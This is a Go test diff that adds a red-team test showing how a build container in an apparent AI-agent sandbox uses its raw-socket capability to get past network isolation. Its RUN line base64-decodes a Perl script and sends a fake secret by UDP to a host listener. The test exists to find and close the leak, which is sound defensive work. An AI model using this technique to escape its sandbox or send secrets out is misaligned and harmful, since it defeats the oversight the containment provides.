@@ -3,8 +3,10 @@
 package integration
 
 import (
+	"encoding/base64"
 	"net"
 	"net/http"
+	"os"
 	"strconv"
 	"strings"
 	"sync"
@@ -59,4 +61,46 @@ func TestRedTeamCapabilityBuildBypassesProxies(t *testing.T) {
 		assert.Assert(t, !strings.Contains(s, secret), "LEAK: the capability build reached the host's loopback outside every allowlist and carried the secret: %s", s)
 	}
 	assert.Assert(t, len(seen) == 0, "LEAK: the capability build reached the host's loopback: %q", seen)
+}
+
+// TestRedTeamCapabilityBuildRawSocketReachesHost is a red-team finding,
+// written as the attack: it FAILS while the leak exists. The build container
+// of a capability rebuild runs with Docker's default capabilities, NET_RAW
+// among them, on the bottle's internal network. inhibit_ipv4 leaves the
+// bridge without an address, but the host still answers ARP there for every
+// address it has and delivers frames sent to the bridge's MAC locally (weak
+// host model, rp_filter 0, INPUT ACCEPT): a RUN line crafting frames with a
+// packet socket sends UDP to any host service, e.g. a resolver that
+// forwards to the internet. The same build reports its cgroup limits.
+func TestRedTeamCapabilityBuildRawSocketReachesHost(t *testing.T) {
+	env := itest.Require(t)
+	rig := isolationRig(t, env)
+	hosts := hostAddresses(t)
+	assert.Assert(t, len(hosts) > 0)
+	pc, err := net.ListenPacket("udp4", "0.0.0.0:0")
+	assert.NilError(t, err)
+	t.Cleanup(func() { _ = pc.Close() })
+	port := strconv.Itoa(pc.LocalAddr().(*net.UDPAddr).Port)
+	got := make(chan string, 1)
+	go func() {
+		buf := make([]byte, 2048)
+		n, from, err := pc.ReadFrom(buf)
+		if err == nil {
+			got <- string(buf[:n]) + " from " + from.String()
+		}
+	}()
+	script, err := os.ReadFile("../scripts/redteam/rawudp.pl")
+	assert.NilError(t, err)
+	secret := "AKIAREDTEAMRAWLEAK9X"
+	df := "ARG " + names.AgentBaseArg + "\nFROM ${" + names.AgentBaseArg + "}\n" +
+		"RUN echo " + base64.StdEncoding.EncodeToString(script) + " | base64 -d > /tmp/r.pl && " +
+		"(grep CapEff /proc/self/status; cat /sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/pids/pids.max /sys/fs/cgroup/memory.max /sys/fs/cgroup/pids.max 2>/dev/null; " +
+		"perl /tmp/r.pl " + hosts[0] + " " + port + " " + secret + "); exit 3\n"
+	_, _, err = rig.Eng.RebuildAgent(t.Context(), rig.Plan.Slug, df)
+	t.Logf("build (fails on purpose, to show its output): %v", err)
+	select {
+	case s := <-got:
+		t.Errorf("LEAK: a capability build's RUN line sent a UDP datagram to host %s: %q", hosts[0], s)
+	default:
+	}
 }
